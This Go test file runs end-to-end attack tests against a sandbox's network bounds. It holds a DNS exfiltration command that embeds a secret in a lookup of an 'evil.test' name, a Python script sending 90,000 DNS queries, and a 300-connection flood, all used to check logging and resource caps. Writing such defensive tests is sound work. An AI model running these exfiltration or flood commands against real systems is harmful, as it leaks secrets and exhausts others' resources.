package e2e

// Attacks on the network's bounds from a root guest (issue 9): a DNS flood
// against the evidence, and a connection flood with a guest that never
// reads against the host's memory.

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// The flood of the original report: 90,000 DNS queries, half of them for
// names never asked before, after an exfiltration attempt. The attempt's
// record must still be in the security log, and the flood summed up.
func TestAttackDNSFloodKeepsEvidence(t *testing.T) {
	env := []string{"KOSA8_SECRET_BACKEND=file"}
	add := kosa8Cmd(t.Context(), "secret", "add", "FLOOD_KEY", "--host", "api.test")
	add.Env = append(add.Env, env...)
	add.Stdin = strings.NewReader("sk-flood-real-value-0123456789\n")
	if out, err := add.CombinedOutput(); err != nil {
		t.Fatalf("secret add: %v %s", err, out)
	}
	name := "dnsflood"
	if r := runWith(t, env, "create", name, "--secret", "FLOOD_KEY", "--allow", "same.flood.test"); r.code != 0 {
		t.Fatalf("create: %s", r)
	}
	t.Cleanup(func() { run(t, "", "rm", "-f", name) })
	if r := runWith(t, env, "start", name); r.code != 0 {
		t.Fatalf("start: %s", r)
	}
	dir := ls(t)[name].Dir
	// The exfiltration attempt: the placeholder in a DNS name.
	run(t, "", "exec", name, "--", "sh", "-c", "getent hosts $FLOOD_KEY.evil.test; true")

	flood := `import socket,struct,time
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.setblocking(False)
def q(name,i):
    return struct.pack(">HHHHHH",i&0xffff,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\x00"+struct.pack(">HH",1,1)
t=time.time();sent=0;got=0
for i in range(90000):
    name="n%d.flood.test"%i if i%2 else "same.flood.test"
    while True:
        try:
            s.sendto(q(name,i),("192.168.127.1",53));break
        except BlockingIOError:
            time.sleep(0.001)
    sent+=1
    try:
        while True:
            s.recv(512);got+=1
    except BlockingIOError:
        pass
print("sent",sent,"answers",got,"seconds",round(time.time()-t,1))`
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	out, err := kosa8Cmd(ctx, "exec", "-u", "root", name, "--", "python3", "-c", flood).CombinedOutput()
	if err != nil {
		t.Fatalf("flood: %v %s", err, out)
	}
	t.Logf("flood from the guest: %s", strings.TrimSpace(string(out)))

	// Stop: the pending summaries are written and the files closed.
	must(t, "stop", name)
	sec, err := os.ReadFile(filepath.Join(dir, "security.log"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(sec), `"kind":"exfiltration"`) {
		t.Fatalf("the exfiltration record did not survive the flood (security log %d bytes)", len(sec))
	}
	summed := 0
	for _, line := range strings.Split(string(sec), "\n") {
		if strings.Contains(line, `"kind":"dns"`) && strings.Contains(line, `"decision":"summary"`) {
			if i := strings.Index(line, `"count":`); i >= 0 {
				n, _ := strconv.Atoi(strings.TrimRight(strings.SplitN(line[i+8:], ",", 2)[0], "}"))
				summed += n
			}
		}
	}
	if summed < 1000 {
		t.Fatalf("the denied queries were not summed up (%d in summaries):\n%s", summed, tail(string(sec), 2000))
	}
	for _, f := range []string{"security.log.1", "audit.log.1"} {
		if _, err := os.Stat(filepath.Join(dir, f)); err == nil {
			t.Errorf("%s exists: the flood rotated a log", f)
		}
	}
	st, _ := os.Stat(filepath.Join(dir, "audit.log"))
	t.Logf("after the flood: security.log %d bytes (%d denials summed up), audit.log %d bytes", len(sec), summed, st.Size())
	if r := must(t, "net", "log", "--security", name); !strings.Contains(r.stdout, "exfiltration") {
		t.Fatalf("net log --security does not show the attempt:\n%s", tail(r.stdout, 2000))
	}
}

func tail(s string, n int) string {
	if len(s) > n {
		return "…" + s[len(s)-n:]
	}
	return s
}

// rssKiB is a process's resident set.
func rssKiB(t *testing.T, pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatalf("supervisor status: %v", err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) >= 2 && f[0] == "VmRSS:" {
			n, _ := strconv.Atoi(f[1])
			return n
		}
	}
	t.Fatal("no VmRSS")
	return 0
}

// tcpMemKiB is the host kernel's TCP buffer memory.
func tcpMemKiB(t *testing.T) int {
	f, err := os.Open("/proc/net/sockstat")
	if err != nil {
		t.Skipf("no /proc/net/sockstat: %v", err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fs := strings.Fields(sc.Text())
		if len(fs) > 0 && fs[0] == "TCP:" {
			for i := 1; i+1 < len(fs); i += 2 {
				if fs[i] == "mem" {
					n, _ := strconv.Atoi(fs[i+1])
					return n * os.Getpagesize() / 1024
				}
			}
		}
	}
	return 0
}

// 300 connections to an allowed host that sends without end, from a guest
// that never reads: the sandbox gets at most its cap of connections, the
// supervisor's memory stays bounded while they are open and returns after
// they close, and so does the host kernel's TCP memory.
func TestAttackConnectionFlood(t *testing.T) {
	l, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var accepted atomic.Int64
	var wg sync.WaitGroup
	go func() {
		chunk := make([]byte, 64<<10)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			// A small send buffer on this side, so that what the host's
			// kernel holds is the supervisor's side of each connection.
			_ = c.(*net.TCPConn).SetWriteBuffer(64 << 10)
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				for {
					if _, err := c.Write(chunk); err != nil {
						return
					}
				}
			}()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	env := []string{"KOSA8_NET_OVERRIDES=flood.test=127.0.0.1"}
	name := "connflood"
	if r := runWith(t, env, "create", name, "--allow", fmt.Sprintf("flood.test:%d", port)); r.code != 0 {
		t.Fatalf("create: %s", r)
	}
	t.Cleanup(func() { run(t, "", "rm", "-f", name) })
	if r := runWith(t, env, "start", name); r.code != 0 {
		t.Fatalf("start: %s", r)
	}
	e := ls(t)[name]
	pid := e.Status.SupervisorPID
	// One connection first, so the steady state includes a used network.
	must(t, "exec", name, "--", "sh", "-c", fmt.Sprintf("timeout 3 curl -s -o /dev/null http://flood.test:%d/ || true", port))
	time.Sleep(3 * time.Second)
	baseRSS, baseTCP := rssKiB(t, pid), tcpMemKiB(t)

	script := fmt.Sprintf(`import socket,time
socks=[];fail=0
for i in range(300):
    s=socket.socket();s.settimeout(10)
    try:
        s.connect(("flood.test",%d));socks.append(s)
    except OSError:
        fail+=1
print("connected",len(socks),"refused",fail,flush=True)
time.sleep(30)
for s in socks:
    s.close()
print("closed",flush=True)`, port)
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	done := make(chan result, 1)
	go func() {
		cmd := kosa8Cmd(ctx, "exec", name, "--", "python3", "-c", script)
		out, err := cmd.CombinedOutput()
		code := 0
		if err != nil {
			code = 1
		}
		done <- result{stdout: string(out), code: code}
	}()
	peakRSS, peakTCP := baseRSS, baseTCP
	var r result
wait:
	for {
		select {
		case r = <-done:
			break wait
		case <-time.After(500 * time.Millisecond):
			peakRSS, peakTCP = max(peakRSS, rssKiB(t, pid)), max(peakTCP, tcpMemKiB(t))
		}
	}
	if r.code != 0 || !strings.Contains(r.stdout, "closed") {
		t.Fatalf("guest flood: %s", r)
	}
	var connected, refused int
	fmt.Sscanf(r.stdout, "connected %d refused %d", &connected, &refused)
	// After: the supervisor gives the burst's memory back.
	var afterRSS int
	var trail []string
	deadline := time.Now().Add(40 * time.Second)
	for {
		afterRSS = rssKiB(t, pid)
		trail = append(trail, strconv.Itoa(afterRSS>>10))
		if afterRSS-baseRSS < 16<<10 || time.Now().After(deadline) {
			break
		}
		time.Sleep(2 * time.Second)
	}
	t.Logf("supervisor RSS after the close, every 2 s (MiB): %s", strings.Join(trail, " "))
	afterTCP := tcpMemKiB(t)
	t.Logf("accel %s: %d connected, %d refused (upstream accepted %d); supervisor RSS %d MiB before, %d MiB peak, %d MiB after; host TCP memory %d MiB before, %d MiB peak, %d MiB after",
		e.Status.Accel, connected, refused, accepted.Load(), baseRSS>>10, peakRSS>>10, afterRSS>>10, baseTCP>>10, peakTCP>>10, afterTCP>>10)
	if connected > 128 || connected+refused != 300 || accepted.Load() > 129 {
		t.Errorf("the connection cap did not hold: %d connected, %d refused, %d reached the upstream", connected, refused, accepted.Load())
	}
	if connected < 100 {
		t.Errorf("only %d connections under a cap of 128: the test measured little", connected)
	}
	if peakRSS-baseRSS > 160<<10 {
		t.Errorf("supervisor RSS grew by %d MiB with the guest not reading, bound 160 MiB", (peakRSS-baseRSS)>>10)
	}
	if afterRSS-baseRSS > 24<<10 {
		t.Errorf("supervisor RSS still %d MiB over its start after the connections closed", (afterRSS-baseRSS)>>10)
	}
	if peakTCP-baseTCP > 320<<10 {
		t.Errorf("host TCP memory grew by %d MiB, bound 320 MiB", (peakTCP-baseTCP)>>10)
	}
	if sec := must(t, "net", "log", "--security", name).stdout; !strings.Contains(sec, "its limit") {
		t.Errorf("the refusals at the cap are not in the security log:\n%s", tail(sec, 2000))
	}
}
